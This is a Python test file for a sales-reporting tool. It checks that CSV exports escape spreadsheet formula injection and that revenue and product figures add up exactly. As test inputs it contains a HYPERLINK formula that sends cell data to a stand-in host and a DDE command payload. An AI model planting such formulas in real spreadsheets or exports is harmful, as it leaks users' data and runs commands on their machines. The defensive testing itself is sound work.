from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sales_core.reporting.download import (
    figure_texts,
    product_stories_csv,
    products_csv,
    revenue_csv,
    summary_csv,
)
from sales_core.reporting.figures import TAXES
from sales_core.reporting.files.csv_file import safe_text
from sales_core.reporting.filters import Filters
from sales_core.reporting.product_story import product_stories
from sales_core.reporting.products import products_report
from sales_core.reporting.revenue import revenue_report
from sales_core.store.database import Database
from sales_core.values.periods import Period
from tests.builders import load, mindbody_csv, sale

SQLITE = pytest.mark.parametrize("database", ["sqlite"], indirect=True)

ATTACK = '=HYPERLINK("http://example.com?"&A1,"Tea")'


def cells(content: bytes) -> list[list[str]]:
    """Read a download as a spreadsheet does: UTF-8, told by the byte order mark."""
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "=cmd|' /C calc'!A0", ATTACK, "+1+1", "-1+1", "-A1", "@SUM(A1:A9)", "+cmd", "-",
        "- tea", "--1", "+-1", "-1e9", "-12.50%", "-$5", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
        "\u00a0=1+1", "\ufeff=1+1", "\x00=1+1", "\t", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1",
        "\uff20SUM(1)", " \t @x",
    ],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    [
        "", "Tea", "Tea = good", "a-b", "1-2", "'=1+1", "12.50", "-12.50", "+12.50", "-12,50",
        "-1,234.50", "-1.234,50", "1e5", "0", "-0", "007", "50%", "e@mail", "Café", "👩‍🍳", "(5)",
        "#REF!", "NA", "<script>", ":red[x]",
    ],
)  # fmt: skip
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


@given(st.text())
def test_neutralising_only_ever_puts_an_apostrophe_in_front(text: str) -> None:
    safe = safe_text(text)
    assert safe in (text, "'" + text)
    assert safe_text(safe) == safe


SHOP = mindbody_csv(
    sale(date="3/28/2025", item="Tea", amount="10.1250", quantity="1.500", unit_price="6.75"),
    sale(date="3/30/2025", item="Tea", amount="-0.0001", quantity="-1"),
    sale(date="3/30/2025", item=ATTACK, amount="100", order_id="2"),
    sale(date="3/30/2025", item="-12.50", amount="-50", order_id="2", unit_price="---"),
)


@SQLITE
def test_the_series_has_every_period_and_exact_decimals(database: Database) -> None:
    load(database, SHOP)
    found = cells(revenue_csv(revenue_report(database, Filters(), "day")))
    assert found[0][8:] == list(TAXES)
    assert [row[:8] for row in found] == [
        ["start", "end", "revenue", "gross_sales", "refunds", "orders", "units", "lines"],
        ["2025-03-28", "2025-03-28", "10.125", "10.125", "0", "1", "1.5", "1"],
        ["2025-03-29", "2025-03-29", "0", "0", "0", "0", "0", "0"],
        ["2025-03-30", "2025-03-30", "49.9999", "100", "-50.0001", "1", "1", "3"],
    ]


@SQLITE
def test_without_a_grain_or_data_the_series_is_its_header(database: Database) -> None:
    assert len(cells(revenue_csv(revenue_report(database, Filters(), "month")))) == 1
    load(database, SHOP)
    assert len(cells(revenue_csv(revenue_report(database, Filters())))) == 1


@SQLITE
def test_the_summary_says_what_it_is_about(database: Database) -> None:
    load(database, SHOP)
    filters = Filters(
        date(2025, 3, 28), date(2025, 3, 31), locations=("Hall",), products=(ATTACK, "Tea")
    )
    found = cells(summary_csv(revenue_report(database, filters), filters, "SGD"))
    assert found == [
        ["figure", "value"],
        ["start", "2025-03-28"],
        ["end", "2025-03-31"],
        ["currency", "SGD"],
        ["location", "Hall"],
        ["product", "'" + ATTACK],
        ["product", "Tea"],
        ["revenue", "110.1249"],
        ["gross_sales", "110.125"],
        ["refunds", "-0.0001"],
        ["orders", "2"],
        ["units", "1.5"],
        ["lines", "3"],
        ["average_order_value", "55.0624"],
        ["net_revenue", "110.1249"],
        ["tax", "0"],
        ["discounts", "0"],
        ["lines_without_tax", "0"],
        ["revenue_without_tax", "0"],
    ]


@SQLITE
def test_a_summary_of_nothing_has_no_average(database: Database) -> None:
    report = revenue_report(database, Filters())
    assert figure_texts(report.figures)["average_order_value"] == ""
    found = dict(cells(summary_csv(report, Filters(), "SGD"))[1:])
    assert (found["start"], found["end"], found["revenue"]) == ("", "", "0")


@SQLITE
def test_products_are_neutralised_without_touching_numbers(database: Database) -> None:
    load(database, SHOP)
    found = cells(products_csv(products_report(database, Filters())))
    assert found == [
        ["name", "price", "revenue", "gross_sales", "refunds", "orders", "units", "lines",
         "first_sold", "last_sold"],
        ["'" + ATTACK, "10", "100", "100", "0", "1", "1", "1", "2025-03-30", "2025-03-30"],
        ["Tea", "6.75", "10.1249", "10.125", "-0.0001", "1", "0.5", "2", "2025-03-28",
         "2025-03-28"],
        ["-12.50", "", "-50", "0", "-50", "0", "1", "1", "", ""],
    ]  # fmt: skip


@SQLITE
def test_what_became_of_products_stands_behind_their_figures(database: Database) -> None:
    load(
        database,
        mindbody_csv(
            sale(date="2/14/2025", item="Tea", amount="10"),
            sale(date="2/14/2025", item="=Gone", amount="5"),
            sale(date="3/14/2025", item="Tea", amount="11.5", quantity="2"),
            sale(date="3/15/2025", item="New", amount="1"),
        ),
    )
    march = Filters(date(2025, 3, 1), date(2025, 3, 31))
    before = Period(date(2025, 2, 1), date(2025, 2, 28))
    stories = cells(product_stories_csv(product_stories(database, march, before)))
    assert [row[:10] for row in stories[:3]] == cells(
        products_csv(products_report(database, march))
    )
    assert [[row[0], *row[10:]] for row in stories] == [
        ["name", "average_price", "before", "change", "percent", "stage"],
        ["Tea", "5.75", "10", "1.5", "15", "growing"],
        ["New", "1", "0", "1", "", "new"],
        ["'=Gone", "", "5", "-5", "-100", "stopped"],
    ]
    alone = cells(product_stories_csv(product_stories(database, march, None)))
    assert [row[11:] for row in alone[1:]] == [["", "", "", ""], ["", "", "", "new"]]


@SQLITE
def test_the_downloads_add_up_to_the_last_digit(database: Database) -> None:
    load(database, SHOP)
    series = cells(revenue_csv(revenue_report(database, Filters(), "day")))[1:]
    products = cells(products_csv(products_report(database, Filters())))[1:]
    total = revenue_report(database, Filters()).figures.revenue
    assert sum(Decimal(row[2]) for row in series) == total
    assert sum(Decimal(row[2]) for row in products) == total
